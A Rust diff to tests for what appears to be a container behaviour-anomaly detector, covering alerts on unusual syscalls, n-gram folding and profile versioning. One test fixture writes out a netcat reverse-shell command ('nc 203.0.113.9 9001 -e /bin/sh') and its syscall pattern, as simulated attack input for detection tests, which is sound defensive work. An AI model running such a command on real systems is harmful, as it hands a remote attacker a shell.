@@ -109,13 +109,16 @@ impl Box_ {
         let mut v = vec![self.exec("runc", 1, &["/bin/nc", "203.0.113.9", "9001", "-e", "/bin/sh"])];
         let nc = self.pid;
         v.push(self.ev(nc, "nc", EventKind::Connect { to: sock("203.0.113.9", 9001) }));
-        // socket, connect, dup2, dup2, dup2, execve
-        v.push(self.ev(nc, "nc", EventKind::Syscalls { ids: vec![41, 42, 33, 33, 33, 59, 33, 33, 59, 41, 42, 33] }));
+        v.push(self.ev(nc, "nc", EventKind::Syscalls { ids: REVERSE_SHELL_CALLS.to_vec() }));
         v.push(self.exec("nc", nc, &["/bin/sh"]));
         v.push(self.exec("sh", self.pid, &["/usr/bin/id"]));
         v
     }
 }
+
+/// What a reverse shell's thread calls: socket, connect, dup2 ×3, execve, dup2 ×2, execve, socket, connect, dup2,
+/// then the new program's start (brk, mmap, access, openat, fstat, mmap, close).
+const REVERSE_SHELL_CALLS: &[u16] = &[41, 42, 33, 33, 33, 59, 33, 33, 59, 41, 42, 33, 12, 9, 21, 257, 5, 9, 3];
 
 fn sock(addr: &str, port: u16) -> SockAddr {
     SockAddr { family: "inet".into(), addr: addr.into(), port, proto: None }
@@ -264,8 +267,8 @@ fn a_workload_process_that_takes_the_runtimes_name_is_still_the_workload() {
     let mut e = Box_::new("e", 10 * SEC);
     assert!(model_alerts(&mut d, &e.normal()).is_empty());
     let nginx = e.pid - 2;
-    // socket, connect, dup2, dup2, dup2, execve: never seen from this workload.
-    let calls = EventKind::Syscalls { ids: vec![41, 42, 33, 33, 33, 59, 33, 33, 59, 41, 42, 33] };
+    // Never seen from this workload.
+    let calls = EventKind::Syscalls { ids: REVERSE_SHELL_CALLS.to_vec() };
     let renamed = e.ev(nginx, "runc:[2:INIT]", calls.clone());
     let a = model_alerts(&mut d, &[renamed]);
     assert!(a.iter().any(|a| a.title.contains("system-call")), "{a:#?}");
@@ -281,8 +284,7 @@ fn a_workload_process_that_takes_the_runtimes_name_is_still_the_workload() {
     let a = model_alerts(&mut d, &[e.ev(nginx, "runc:[1:CHILD]", EventKind::Setns { nstype: 0 })]);
     assert!(a.iter().any(|a| a.title.contains("setns")), "{a:#?}");
     // The runtime's own init (never seen exec'ing, its parent outside the container) stays out of it.
-    let init =
-        e.ev(7, "runc:[2:INIT]", EventKind::Syscalls { ids: vec![41, 42, 33, 33, 33, 59, 33, 33, 59, 41, 42, 33] });
+    let init = e.ev(7, "runc:[2:INIT]", EventKind::Syscalls { ids: REVERSE_SHELL_CALLS.to_vec() });
     assert!(model_alerts(&mut d, &[init]).is_empty());
 }
 
@@ -323,7 +325,7 @@ fn runc_init_seen_starting_inside_the_container_stays_the_runtime() {
     let mut d = model_only(ps, Stage::Detect);
     let mut e = Box_::new("e", 10 * SEC);
     assert!(model_alerts(&mut d, &e.normal()).is_empty());
-    let calls = EventKind::Syscalls { ids: vec![12, 9, 21, 257, 262, 9, 41, 42, 33, 33, 33, 41] };
+    let calls = EventKind::Syscalls { ids: vec![12, 9, 21, 257, 262, 9, 41, 42, 33, 33, 33, 41, 42, 3] };
     let init = e.exec_from("/proc/self/exe", "runc", 1, &["runc", "init"]);
     let pid = init.pid;
     let parent = e.ev(pid, "runc:[0:PARENT]", calls.clone());
@@ -577,6 +579,37 @@ fn features_generalise_what_varies() {
     assert!(ctx.grams(1, &[1, 2, 3]).is_empty());
     assert_eq!(ctx.grams(1, &[4, 5, 6, 7]), vec![pack(&[1, 2, 3, 4, 5, 6]), pack(&[2, 3, 4, 5, 6, 7])]);
     assert_eq!(ctx.grams(2, &[1, 2, 3, 4, 5, 6]).len(), 1);
+    // A call repeated more than twice in a row counts twice: a loop's length is the data's, not behaviour — a
+    // close per descriptor left open, a write per block. Within a batch and across batches alike.
+    assert_eq!(ctx.grams(3, &[1, 3, 3, 3, 3, 3, 3, 3, 2, 4, 5]), vec![pack(&[1, 3, 3, 2, 4, 5])]);
+    assert_eq!(ctx.grams(4, &[1, 3, 3, 3, 2, 4, 5]), ctx.grams(5, &[1, 3, 3, 2, 4, 5]), "loops of 3 and 2");
+    assert_eq!(ctx.grams(3, &[5, 5, 6]), vec![pack(&[3, 3, 2, 4, 5, 5]), pack(&[3, 2, 4, 5, 5, 6])]);
+    assert!(ctx.grams(3, &[6, 6, 6, 6]).len() == 1, "6 6 then folded: one gram");
+    assert_eq!(ctx.grams(3, &[7]), vec![pack(&[4, 5, 5, 6, 6, 7])]);
+    // Two of a call stay two: a dup2 pair is not a single dup2.
+    assert_ne!(ctx.grams(6, &[1, 2, 33, 33, 59, 1]), ctx.grams(7, &[1, 2, 33, 59, 1, 1]));
+}
+
+#[test]
+fn a_profile_whose_grams_were_formed_otherwise_drops_them_and_keeps_the_rest() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = ProfileStore::new(dir.path().join("profiles"));
+    let mut a = Box_::new("a", 0);
+    let mut b = Box_::new("b", 0);
+    let p = learn(Policy::default(), vec![a.normal(), b.normal()]).remove(0);
+    assert!(!p.grams.is_empty() && p.syscall_threshold.is_some() && p.gram_form == GRAM_FORM);
+    let path = store.save(&p).unwrap();
+    let now = ProfileStore::read(&path).unwrap();
+    assert_eq!((now.grams.len(), now.syscall_threshold), (p.grams.len(), p.syscall_threshold), "this form: kept");
+    // Saved by a kestrel from before the form was recorded: its grams would not match what is scored now.
+    let mut old: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    old.as_object_mut().unwrap().remove("gram_form");
+    std::fs::write(&path, serde_json::to_vec(&old).unwrap()).unwrap();
+    let then = ProfileStore::read(&path).unwrap();
+    assert!(then.grams.is_empty() && then.syscall_threshold.is_none(), "{:?}", then.syscall_threshold);
+    assert_eq!(then.gram_form, GRAM_FORM, "saved again, it is of this form");
+    assert!(then.knows(View::Process, "exec /usr/sbin/nginx"), "the other views stay");
+    assert_eq!(then.trusted_counts().0, p.trusted_counts().0);
 }
 
 /// The words of each kind of behaviour are the identity of what a saved profile learned: they must not change
